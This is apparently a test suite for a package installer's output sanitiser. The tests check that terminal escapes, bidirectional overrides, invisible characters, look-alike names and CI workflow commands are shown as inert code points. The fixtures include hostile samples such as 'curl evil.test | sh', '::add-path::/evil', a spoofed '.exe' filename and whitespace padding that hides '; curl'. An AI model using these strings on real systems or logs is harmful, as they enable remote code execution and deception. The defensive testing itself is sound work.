"""What a package wrote is shown, and never obeyed."""

from __future__ import annotations

import re
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from safe_install.report.plain import plain, plain_block, plain_name

ANYTHING = st.text(st.characters()) | st.text(
    st.sampled_from("a :#[]\u0301\u202e\ufe0f\n\t\r\x1b\ud800…\\"), max_size=400
)
LIMITS = st.integers(min_value=1, max_value=300)

NEUTRALISED = {
    "a colour": ("\x1b[31mred", r"\u{1b}[31mred"),
    "a link": ("\x1b]8;;https://a.test\x07text", r"\u{1b}]8;;https://a.test\u{7}text"),
    "the eight-bit escape": ("\x9b2J", r"\u{9b}2J"),
    "delete": ("rm\x7f", r"rm\u{7f}"),
    "a carriage return that writes over the line": ("curl evil.test\rok", r"curl evil.test\rok"),
    "a new line": ("one\ntwo", r"one\ntwo"),
    "a line separator": ("one\u2028two\u2029\x85", r"one\u{2028}two\u{2029}\u{85}"),
    "bidirectional override": ("gpj.\u202eexe", r"gpj.\u{202e}exe"),
    "bidirectional isolate": ("\u2066a\u2069\u200f", r"\u{2066}a\u{2069}\u{200f}"),
    "letters that turn the line around": ("\u05d0:12", r"\u{5d0}:12"),
    "zero width": ("pay\u200bload\ufeff\u2060", r"pay\u{200b}load\u{feff}\u{2060}"),
    "soft hyphen": ("re\u00adact", r"re\u{ad}act"),
    "variation selectors": ("a\ufe0fb\U000e0100", r"a\u{fe0f}b\u{e0100}"),
    "tags": ("\U000e0041", r"\u{e0041}"),
    "letters nobody sees": ("a\u3164b\u2800", r"a\u{3164}b\u{2800}"),
    "spaces that are none": ("a\u00a0b\u3000", r"a\u{a0}b\u{3000}"),
    "half a surrogate": ("\ud83d", r"\u{d83d}"),
    "no character at all": ("\ufdd0\ue000", r"\u{fdd0}\u{e000}"),
    "a tower of accents": ("a\u0301\u0302\u0303", "a\u0301\u0302\\u{303}"),
    "an accent on our own letter": ("\u0301a", r"\u{301}a"),
    "a workflow command": ("::add-path::/evil", r":\u{3a}add-path::/evil"),
    "a workflow command further right": ("x ::SET-env name=A::b", r"x :\u{3a}SET-env name=A:\u{3a}b"),
    "an old workflow command": ("x ##[error]no", r"x #\u{23}[error]no"),
    "a pipeline command": ("##vso[task.setvariable]x", r"#\u{23}vso[task.setvariable]x"),
    "a build server command": ("###teamcity[a", r"##\u{23}teamcity[a"),
    "a gap that pushes the payload away": ("true" + " " * 500 + "; curl", r"true\u{20}{500}; curl"),
}
HARMLESS = (
    "node install.js --yes",
    "const a = [1, 2]; // [red]no markup[/red] :smile: **bold** `code`",
    "Zoë naïve 日本語 émigré Việt",
    "http://[::1]:80/ ## heading a: :b",
    "",
)


@pytest.mark.parametrize(("text", "shown"), NEUTRALISED.values(), ids=NEUTRALISED)
def test_what_could_act_is_shown_by_its_number(text: str, shown: str) -> None:
    assert plain(text) == shown


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert plain(text) == text


def test_a_name_that_only_looks_like_another_is_told_apart() -> None:
    assert plain_name("r\u0435act") == r"r\u{435}act"


def test_what_is_too_long_loses_its_middle_and_says_so() -> None:
    shown = plain("start " + "x" * 5000 + "; curl evil.test | sh", limit=80)
    assert shown.startswith("start ")
    assert "…(5,027 characters)…" in shown
    assert shown.endswith("curl evil.test | sh"[-15:])


@given(ANYTHING, LIMITS)
@example("##" + "x" * 400 + "[a]", 30)
@example("::" + "x" * 400, 30)
@example("a" * 20 + " " * 31 + "b" * 400, 79)
def test_one_line_is_printable_bounded_and_stable(text: str, limit: int) -> None:
    shown = plain(text, limit=limit)
    assert shown.isprintable()
    assert len(shown) <= limit
    assert plain(shown, limit=limit) == shown


@given(ANYTHING)
def test_one_line_holds_nothing_that_acts(text: str) -> None:
    shown = plain(text)
    assert not re.search(r"::[A-Za-z]|##[A-Za-z]*\[| {32}", shown)
    assert not {unicodedata.bidirectional(char) for char in shown} & {"R", "AL", "AN", "RLO", "LRO", "RLI", "FSI"}


@given(ANYTHING, LIMITS)
def test_a_name_is_printable_ascii_but_for_the_ellipsis(text: str, limit: int) -> None:
    shown = plain_name(text, limit=limit)
    assert len(shown) <= limit
    assert all(char.isascii() or char == "…" for char in shown)


@given(ANYTHING, st.integers(min_value=2, max_value=9), LIMITS, st.booleans())
def test_a_block_is_bounded_and_stable(text: str, lines: int, width: int, last: bool) -> None:  # noqa: FBT001 - drawn
    shown = plain_block(text, lines=lines, width=width, last=last)
    rows = shown.split("\n")
    assert all(row.isprintable() for row in rows)
    assert len(rows) <= lines
    assert plain_block(shown, lines=lines, width=max(width, 40), last=last) == shown


def test_a_block_keeps_its_lines_and_its_indents() -> None:
    assert plain_block("\r\n\nif x:\r\n\tgo()\n  \n") == "if x:\n    go()"


def test_a_long_block_says_how_much_is_left_out() -> None:
    text = "\n".join(f"line {number}" for number in range(100))
    assert plain_block(text, lines=3) == "line 0\nline 1\n… 98 more lines"
    assert plain_block(text, lines=3, last=True) == "… 98 more lines\nline 98\nline 99"
